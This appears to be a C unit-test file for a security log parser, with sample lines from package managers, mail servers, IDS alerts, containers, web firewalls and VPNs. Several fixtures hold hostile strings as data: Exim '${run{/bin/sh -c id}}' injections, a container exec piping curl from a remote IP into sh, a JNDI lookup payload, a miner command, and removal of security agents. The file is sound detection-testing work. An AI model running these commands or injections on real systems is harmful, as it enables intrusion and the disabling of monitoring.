// SPDX-License-Identifier: Apache-2.0
/* What managers of packages, servers of mail, firewalls of the web, frameworks and terminals write, as files hold it. */
#include <stdio.h>

#include "log/test-reads.h"

#define MORNING "1772446530" /* 2026-03-02T10:15:30Z */

TEST(history_of_apt)
{
    static const char lines[] = "\nStart-Date: 2026-03-02  10:15:30\nCommandline: apt-get purge -y hostguard\nRequested-By: deploy (1000)\nPurge: hostguard:amd64 (3.2.8), libhg:amd64 (1)\nError: Sub-process /usr/bin/dpkg returned an error code (1)\nEnd-Date: 2026-03-02  10:15:34\n"
                                "\nStart-Date: 2026-03-02  10:15:30\nInstall: tor:amd64 (0.4.8, automatic)\nEnd-Date: 2026-03-02  10:15:34\n";
    READS_NTH(lines, 1, "log.format=packages", "evt.source=journald", "evt.rawtime.s=" MORNING, "log.program=apt", "log.value[action]=command", "log.value[cmdline]=apt-get purge -y hostguard");
    READS_NTH(lines, 2, "evt.rawtime.s=" MORNING, "log.value[action]=purge", "log.value[packages]=hostguard:amd64 (3.2.8), libhg:amd64 (1)", "log.value[user]=deploy (1000)");
    READS_NTH(lines, 3, "log.message=Error: Sub-process /usr/bin/dpkg returned an error code (1)", "log.value[action]=<NA>");
    /* who asked for the last one asked for no other */
    READS_NTH(lines, 4, "log.value[action]=install", "log.value[packages]=tor:amd64 (0.4.8, automatic)", "log.value[user]=<NA>");
    READS_NTH("Log started: 2026-03-02  10:15:30\n(Reading database ... 28921 files)\nRemoving hostguard (3.2.8) ...\nLog ended: 2026-03-02  10:15:34\n", 2, "log.format=packages", "evt.rawtime.s=" MORNING, "log.value[action]=remove", "log.value[packages]=hostguard (3.2.8) ...");
}

TEST(other_managers_of_packages)
{
    READS_NTH("2026-03-02T10:15:30+0000 INFO --- logging initialized ---\n2026-03-02T10:15:30+0000 SUBDEBUG Erase: hostguard-3.2.8-1.x86_64\n", 2, "log.format=packages", "evt.rawtime.s=" MORNING, "log.program=dnf", "log.value[action]=remove",
              "log.value[packages]=hostguard-3.2.8-1.x86_64");
    READS_NTH("2026-03-02T10:15:30+0000 DDEBUG Command: dnf -y remove hostguard\n", 1, "log.program=dnf", "log.value[cmdline]=dnf -y remove hostguard");
    READS_NTH("Mar 02 10:15:30 Installed: tor-0.4.8-1.el7.x86_64\nMar 02 10:15:31 Erased: hostguard-3.2.8-1.x86_64\n", 2, "log.format=packages", "log.program=yum", "log.value[action]=remove", "log.value[packages]=hostguard-3.2.8-1.x86_64");
    READS_NTH("[2026-03-02T10:15:30+0000] [PACMAN] Running 'pacman -Rns falco'\n[2026-03-02T10:15:30+0000] [ALPM] removed falco (0.38.0-1)\n[2026-03-02T10:15:31+0000] [ALPM-SCRIPTLET] x\n", 1, "log.format=packages", "log.program=pacman", "log.value[cmdline]=pacman -Rns falco");
    READS_NTH("[2026-03-02T10:15:30+0000] [PACMAN] Running 'pacman -Rns falco'\n[2026-03-02T10:15:30+0000] [ALPM] removed falco (0.38.0-1)\n", 2, "evt.rawtime.s=" MORNING, "log.value[action]=remove", "log.value[packages]=falco (0.38.0-1)");
    READS_NTH("# columns\n2026-03-02 10:15:30|command|root@web1|'zypper' 'rm' 'falco'|\n2026-03-02 10:15:30|remove |falco|0.38-1|x86_64|root@web1|\n", 2, "log.format=packages", "log.program=zypper", "log.value[action]=remove", "log.value[packages]=falco");
    /* what syslog says of packages is syslog */
    READS_NTH("Mar  2 10:15:30 web1 yum[7]: Installed: tor-0.4.8-1.el7.x86_64\n", 1, "log.format=syslog", "log.program=yum", "log.message=Installed: tor-0.4.8-1.el7.x86_64");
}

TEST(mail_by_exim)
{
    static const char lines[] = "2026-03-02 10:15:30 1h8xyZ-0001aB-Cd <= a@b.example H=(mail) [203.0.113.9] P=esmtp S=512\n"
                                "2026-03-02 10:15:30 1h8xyZ-0001aB-Cd == ${run{\\x2fbin\\x2fsh -c id}}@localhost R=system_aliases defer (-1)\n"
                                "2026-03-02 10:15:30 H=(x) [203.0.113.9] F=<a@b.example> rejected RCPT <root+${run{/bin/sh -c id}}@localhost>: relay not permitted\n"
                                "2026-03-02 10:15:30 [77] login authenticator failed for (User) [203.0.113.9]: 535 Incorrect authentication data (set_id=info@example.com)\n"
                                "2026-03-02 10:15:30 1tKdVG-00000001xyz-2AbC Completed\n";
    READS_NTH(lines, 1, "log.format=servers", "evt.rawtime.s=" MORNING, "log.program=exim", "log.value[id]=1h8xyZ-0001aB-Cd", "log.value[flag]=<=", "log.value[address]=a@b.example", "log.value[client]=203.0.113.9");
    READS_NTH(lines, 2, "log.value[flag]===", "log.value[address]=${run{\\x2fbin\\x2fsh -c id}}@localhost", "log.value[client]=<NA>");
    READS_NTH(lines, 3, "evt.source=journald", "log.value[flag]=rejected", "log.value[address]=<root+${run{/bin/sh -c id}}@localhost>:", "log.value[client]=203.0.113.9");
    READS_NTH(lines, 4, "evt.source=auth", "log.pid=77", "login.action=login", "login.outcome=failure", "login.user=info@example.com", "login.ip=203.0.113.9");
    READS_NTH(lines, 5, "log.value[id]=1tKdVG-00000001xyz-2AbC", "log.value[flag]=Completed");
    /* an id that is none */
    READS_NTH("2026-03-02 10:15:30 INFO 1h8xy-0001aB-Cd <= x\n", 1, "log.program=<NA>", "log.value[level]=INFO");
}

TEST(alerts_on_a_line)
{
    READS_NTH("03/02/2026-10:15:30.123456  [**] [1:2024792:4] ET COINMINER x [**] [Classification: Crypto Currency Mining Activity Detected] [Priority: 2] {TCP} 10.0.1.10:51234 -> 203.0.113.9:3333\n", 1, "log.format=servers", "evt.source=flow_log", "evt.rawtime.s=" MORNING,
              "log.value[event_type]=alert", "log.value[signature]=ET COINMINER x", "log.value[signature_id]=2024792", "log.value[category]=Crypto Currency Mining Activity Detected", "log.value[severity]=2", "flow.src=10.0.1.10", "flow.dst=203.0.113.9",
              "flow.dstport=3333", "flow.action=ACCEPT");
    READS_NTH("26/03/02-10:15:30.123456 [Drop] [**] [1:1:1] \"MALWARE-CNC x\" [**] [Priority: 1] {UDP} 2001:db8::1 -> 203.0.113.9:53\n", 1, "evt.rawtime.s=" MORNING, "flow.src=2001:db8::1", "flow.action=REJECT", "log.value[signature]=MALWARE-CNC x", "log.value[category]=<NA>");
}

TEST(events_of_containers)
{
#define CONTAINER "3ad7b26ded6d4e5f3ad7b26ded6d4e5f3ad7b26ded6d4e5f3ad7b26ded6d4e5f"
    static const char lines[] = "2026-03-02T10:15:30.123456789Z image pull someone/web:latest (name=someone/web)\n"
                                "2026-03-02T10:15:30.123456789Z container exec_create: sh -c curl http://203.0.113.9/x | sh " CONTAINER " (execID=1, image=web, name=web)\n"
                                "2026-03-02T10:15:30.123456789Z container create " CONTAINER " (image=someone/web, name=x)\n";
    READS_NTH(lines, 1, "log.format=servers", "evt.rawtime.s=" MORNING, "log.program=docker", "log.value[type]=image", "log.value[action]=pull", "log.value[image]=someone/web:latest");
    READS_NTH(lines, 2, "log.value[action]=exec_create", "log.value[cmdline]=sh -c curl http://203.0.113.9/x | sh", "log.value[id]=" CONTAINER, "log.value[image]=web");
    READS_NTH(lines, 3, "log.value[action]=create", "log.value[id]=" CONTAINER, "log.value[name]=x");
    READS_NTH("2026-03-02 11:15:30.123456789 +0100 CET container create 3ad7b26ded6d4e5f (image=docker.io/someone/web:latest, name=x)\n", 1, "log.program=podman", "evt.rawtime.s=" MORNING, "log.value[action]=create", "log.value[image]=docker.io/someone/web:latest");
}

TEST(frameworks)
{
    READS_NTH("I, [2026-03-02T10:15:30.123456 #1234]  INFO -- : [f0e1] Started GET \"/x?y=1\" for 203.0.113.9 at 2026-03-02 10:15:30 +0000\nI, [2026-03-02T10:15:30.223456 #1234]  INFO -- : [f0e1] Completed 200 OK in 12ms\n", 1, "log.format=servers", "evt.source=web_access",
              "evt.rawtime.s=" MORNING, "http.ip=203.0.113.9", "http.method=GET", "http.path=/x", "http.query=y=1", "log.program=rails");
    READS_NTH("Started GET \"/x\" for 203.0.113.9 at 2026-03-02 11:15:30 +0100\nProcessing by X#y as HTML\n  Parameters: {}\nCompleted 404 Not Found in 3ms\n", 1, "evt.source=web_access", "evt.rawtime.s=" MORNING, "http.ip=203.0.113.9");
    READS_NTH("F, [2026-03-02T10:15:30.323456 #1234] FATAL -- : [f0e1] ActionController::RoutingError (No route matches)\n", 1, "evt.source=journald", "log.pid=1234", "log.value[level]=FATAL", "log.message=ActionController::RoutingError (No route matches)");
    READS_NTH("[2026-03-02 10:15:30] production.ERROR: it failed {\"exception\":\"x\n[stacktrace]\n#0 /var/www/x.php(117): foo()\n\"} \n[2026-03-02 10:15:30] local.INFO: ok [] []\n", 1, "log.format=servers", "evt.rawtime.s=" MORNING, "log.program=php", "log.value[channel]=production",
              "log.value[level]=ERROR");
    READS_NTH("WARNING 2026-03-02 10:15:30,123 log 7 140 Not Found: /wp-login.php\n", 1, "log.format=servers", "log.program=django", "log.value[module]=log", "log.message=Not Found: /wp-login.php");
    READS_NTH("[02/Mar/2026 10:15:30] \"GET /.env HTTP/1.1\" 404 179\n", 1, "log.format=servers", "evt.source=web_access", "evt.rawtime.s=" MORNING, "http.path=/.env", "http.status=404", "http.ip=<NA>");
}

TEST(audits_of_a_firewall_of_the_web)
{
#define A "--a1b2c3d4-A--\n[02/Mar/2026:10:15:30 +0000] YkqAbc 203.0.113.9 51234 10.0.1.10 80\n--a1b2c3d4-B--\nPOST /x?y=1 HTTP/1.1\nHost: shop.example\nUser-Agent: curl/8.5.0\n\n"
#define H "--a1b2c3d4-H--\nMessage: Warning. x [id \"1\"]\nMessage: Access denied with code 403 (phase 2). [file \"/x\"] [id \"932100\"] [msg \"Remote Command Execution\"] [severity \"CRITICAL\"]\nAction: Intercepted (phase 2)\n\n--a1b2c3d4-Z--\n\n"
    READS_NTH(A "--a1b2c3d4-C--\n--b\nq=${jndi:x}\n--a1b2c3d4-F--\nHTTP/1.1 403 Forbidden\n\n" H, 1, "log.format=modsecurity", "evt.source=web_access", "evt.rawtime.s=" MORNING, "http.ip=203.0.113.9", "http.method=POST", "http.path=/x", "http.query=y=1", "http.host=shop.example",
              "http.agent=curl/8.5.0", "http.status=403", "log.value[rule_id]=932100", "log.value[signature]=Remote Command Execution", "log.value[severity]=CRITICAL", "log.value[action]=blocked", "log.value[body]=--b\nq=${jndi:x}", "log.value[id]=YkqAbc");
    READS_NTH(A "--a1b2c3d4-Z--\n\n" A H, 2, "http.path=/x", "log.value[rule_id]=932100");
    /* one without an end: the next one is read */
    READS_NTH(A A H, 2, "http.path=/x", "log.value[rule_id]=932100");
    /* what somebody sent is no border of a transaction */
    READS_NTH(A "--a1b2c3d4-C--\n--ffffffff-Z--\n--ffffffff-A--\n" H, 1, "log.value[body]=--ffffffff-Z--\n--ffffffff-A--", "log.value[rule_id]=932100");
    READS_NTH("---KSf2abcd---A--\n[02/Mar/2026:10:15:30 +0000] 1772 203.0.113.9 51234 10.0.1.10 80\n---KSf2abcd---B--\nGET /x HTTP/1.1\n\n---KSf2abcd---H--\nModSecurity: Warning. [id \"7\"] [msg \"m\"]\n\n---KSf2abcd---Z--\n", 1, "http.path=/x", "log.value[rule_id]=7", "log.value[action]=allowed");
}

TEST(who_was_logged_in)
{
    static const char last[] = "root     pts/0        203.0.113.9      Mon Mar  2 10:15   still logged in\nbob      tty1                          Mon Mar  2 09:00 - 09:30  (00:30)\nreboot   system boot  6.1.0-18-amd64   Sun Mar  1 08:00   still running\n\nwtmp begins Sun Mar  1 08:00:00 2026\n";
    READS_NTH(last, 1, "log.format=last", "evt.source=auth", "login.action=login", "login.outcome=success", "login.user=root", "login.ip=203.0.113.9", "login.tty=pts/0");
    READS_NTH(last, 2, "login.user=bob", "login.ip=<NA>");
    READS_NTH(last, 3, "evt.source=journald", "login.action=<NA>", "log.program=last");
    READS_NTH("root     pts/0        203.0.113.9      Mon Mar  2 10:15:30 2026 - Mon Mar  2 10:16:00 2026  (00:00)\n", 1, "log.format=last", "evt.rawtime.s=" MORNING, "login.ip=203.0.113.9");
    READS_NTH("root     ssh:notty    203.0.113.9      Mon Mar  2 10:15:30 2026 - Mon Mar  2 10:15:30 2026  (00:00)\n         ssh:notty    203.0.113.9      Mon Mar  2 10:15:30 2026 - Mon Mar  2 10:15:30 2026  (00:00)\n\nbtmp begins Mon Mar  2 10:15:30 2026\n", 2, "login.outcome=failure", "login.user=<NA>",
              "login.ip=203.0.113.9");
    READS_NTH("eve      tty1                          Mon Mar  2 10:15:30 2026 - Mon Mar  2 10:15:30 2026  (00:00)\n\nbtmp begins Mon Mar  2 10:15:30 2026\n", 1, "login.outcome=failure", "login.user=eve");
    READS_NTH("bob      pts/1        2026-03-02 10:15 (203.0.113.9)\n", 1, "log.format=last", "login.user=bob", "login.ip=203.0.113.9");
    READS_NTH(" 10:00:00 up 10 days,  2:00,  2 users,  load average: 0.10, 0.20, 0.30\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    203.0.113.9      09:58    1.00s  0.03s  0.00s ./x -o pool.example:3333\n", 1, "log.format=last", "evt.source=journald",
              "log.program=w", "log.message=./x -o pool.example:3333", "log.value[user]=root", "log.value[from]=203.0.113.9");
}

TEST(findings_and_states_of_aws)
{
#define FINDING(arn, more) "{\"SchemaVersion\":\"2018-10-08\",\"Id\":\"arn:x\",\"ProductArn\":\"" arn "\",\"AwsAccountId\":\"111122223333\",\"Region\":\"eu-west-1\",\"Types\":[\"TTPs/Execution\"],\"UpdatedAt\":\"2026-03-02T10:15:30Z\",\"Title\":\"t\",\"Severity\":{\"Label\":\"HIGH\"},\"Resources\":[{\"Id\":\"r\"}]" more "}"
    READS(FINDING("arn:aws:securityhub:eu-west-1::product/other/other", ""), "service", 1772446530, "cloud.provider=aws", "cloud.category=finding", "cloud.action=TTPs/Execution", "cloud.resource=r", "cloud.account=111122223333", "cloud.outcome=<NA>");
    READS("{\"detail-type\":\"Security Hub Findings - Imported\",\"detail\":{\"findings\":[" FINDING("arn:aws:securityhub:eu-west-1::product/other/other", "") "]}}", "service", 1772446530, "cloud.resource=r");
    READS("{\"detail-type\":\"Macie Finding\",\"detail\":{\"id\":\"m\",\"accountId\":\"1\",\"region\":\"eu-west-1\",\"type\":\"Policy:IAMUser/S3BucketPublic\",\"severity\":{\"description\":\"High\"},\"updatedAt\":\"2026-03-02T10:15:30Z\",\"resourcesAffected\":{\"s3Bucket\":{\"arn\":\"arn:aws:s3:::b\"}}}}",
          "service", 1772446530, "cloud.action=Policy:IAMUser/S3BucketPublic", "cloud.resource=arn:aws:s3:::b");
    READS_NTH("{\"findings\":[{\"awsAccountId\":\"1\",\"findingArn\":\"f\",\"severity\":\"HIGH\",\"type\":\"PACKAGE_VULNERABILITY\",\"updatedAt\":\"2026-03-02T10:15:30Z\",\"resources\":[{\"id\":\"i-0123456789abcdef0\"}]}]}", 1, "log.format=service", "evt.rawtime.s=" MORNING, "cloud.action=PACKAGE_VULNERABILITY",
          "cloud.resource=i-0123456789abcdef0", "cloud.id=f");
    READS("{\"detail\":{\"id\":\"d\",\"status\":\"ACTIVE\",\"resourceType\":\"AWS::S3::Bucket\",\"resource\":\"arn:aws:s3:::b\",\"analyzedAt\":\"2026-03-02T10:15:30Z\",\"accountId\":\"1\",\"isPublic\":true}}", "service", 1772446530, "cloud.action=AWS::S3::Bucket", "cloud.category=finding");
#define ITEM "{\"configurationItemCaptureTime\":\"2026-03-02T10:15:30.000Z\",\"awsAccountId\":\"1\",\"configurationItemStatus\":\"OK\",\"resourceType\":\"AWS::EC2::SecurityGroup\",\"resourceId\":\"sg-1\",\"awsRegion\":\"eu-west-1\",\"configuration\":{}}"
    READS_NTH("{\"fileVersion\":\"1.0\",\"configSnapshotId\":\"x\",\"configurationItems\":[" ITEM "]}", 1, "log.format=service", "evt.rawtime.s=" MORNING, "cloud.action=AWS::EC2::SecurityGroup", "cloud.category=state", "cloud.resource=sg-1", "cloud.region=eu-west-1");
    READS("{\"detail-type\":\"Config Configuration Item Change\",\"detail\":{\"messageType\":\"ConfigurationItemChangeNotification\",\"configurationItem\":" ITEM "}}", "service", 1772446530, "cloud.resource=sg-1");
}

TEST(engines_and_lists_of_what_runs)
{
    READS("{\"Type\":\"image\",\"Action\":\"pull\",\"Actor\":{\"ID\":\"web\",\"Attributes\":{\"image\":\"web\"}},\"time\":1772446530,\"timeNano\":1772446530000000000}", "service", 1772446530, "cloud.provider=docker", "cloud.action=pull", "cloud.resource=web");
    READS("{\"ID\":\"3ad7\",\"Image\":\"web\",\"Status\":\"create\",\"Time\":\"2026-03-02T10:15:30Z\",\"Type\":\"container\",\"Attributes\":{}}", "service", 1772446530, "cloud.provider=podman", "cloud.action=create", "cloud.resource=web");
    READS_NTH("{\"kind\":\"List\",\"items\":[{\"kind\":\"Event\",\"lastTimestamp\":\"2026-03-02T10:15:30Z\",\"involvedObject\":{\"name\":\"x\",\"namespace\":\"n\"},\"reason\":\"Pulling\",\"message\":\"Pulling image\",\"metadata\":{\"uid\":\"u\"}}]}", 1, "log.format=service", "evt.rawtime.s=" MORNING, "cloud.provider=kubernetes",
          "cloud.action=Pulling", "cloud.resource=x", "cloud.category=state");
    READS("{\"name\":\"procs\",\"hostIdentifier\":\"web1\",\"unixTime\":1772446530,\"columns\":{\"name\":\"x\"},\"action\":\"added\"}", "service", 1772446530, "cloud.provider=osquery", "cloud.action=procs", "cloud.resource=web1");
    READS("{\"command\":\"git-upload-pack\",\"gl_key_id\":1,\"gl_project_path\":\"shop/web\",\"remote_ip\":\"203.0.113.9\",\"time\":\"2026-03-02T10:15:30Z\",\"username\":\"bob\"}", "service", 1772446530, "cloud.provider=gitlab", "cloud.principal=bob", "cloud.ip=203.0.113.9", "cloud.resource=shop/web");
}

TEST(tunnels)
{
    static const char lines[] = "2026-03-02 10:15:30 203.0.113.9:51234 TLS: Initial packet from [AF_INET]203.0.113.9:51234, sid=1 2\n2026-03-02 10:15:30 203.0.113.9:51234 TLS Auth Error: Auth Username/Password verification failed for peer\n"
                                "2026-03-02 10:15:30 us=123 203.0.113.9:51234 [bob] Peer Connection Initiated with [AF_INET]203.0.113.9:51234\n2026-03-02 10:15:30 bob/203.0.113.9:51234 MULTI: Learn: 10.8.0.2 -> bob\n";
    READS_NTH(lines, 1, "log.format=servers", "evt.source=journald", "evt.rawtime.s=" MORNING, "log.program=openvpn", "log.value[client]=203.0.113.9:51234", "login.action=<NA>");
    READS_NTH(lines, 2, "evt.source=auth", "login.outcome=failure", "login.ip=203.0.113.9", "login.reason=wrong-password");
    READS_NTH(lines, 3, "evt.source=auth", "login.outcome=success", "login.user=bob", "login.ip=203.0.113.9");
    READS_NTH(lines, 4, "evt.source=journald", "log.value[client]=bob/203.0.113.9:51234");
    READS_NTH("Mar  2 10:15:30 gw openvpn[7]: 203.0.113.9:51234 TLS Auth Error: Auth Username/Password verification failed for peer\n", 1, "log.format=syslog", "login.outcome=failure", "login.ip=203.0.113.9");
    READS_NTH("Mar  2 10:15:30 gw charon: 05[IKE] EAP method EAP_MSCHAPV2 failed for peer bob\n", 1, "login.outcome=failure", "login.user=bob");
    READS_NTH("Mar  2 10:15:30 gw charon: 05[IKE] IKE_SA rw[1] established between 10.0.0.1[gw]...203.0.113.9[bob]\n", 1, "login.outcome=success", "login.user=bob", "login.ip=203.0.113.9");
    READS_NTH("Mar  2 10:15:30 gw charon: 05[IKE] 203.0.113.9 is initiating an IKE_SA\n", 1, "login.action=<NA>");
}

TEST(reports_of_audit)
{
    static const char report[] = "\nLogin Report\n============================================\n# date time auid host term exe success event\n============================================\n1. 03/02/2026 10:15:30 root 203.0.113.9 ssh /usr/sbin/sshd no 1234\n2. 03/02/2026 10:15:30 bob ? pts/0 /usr/bin/su yes 1235\n";
    READS_NTH(report, 1, "log.format=aureport", "evt.source=auth", "evt.rawtime.s=" MORNING, "login.outcome=failure", "login.user=root", "login.ip=203.0.113.9", "login.tty=ssh", "log.program=sshd");
    READS_NTH(report, 2, "login.outcome=success", "login.user=bob", "login.ip=<NA>");
}
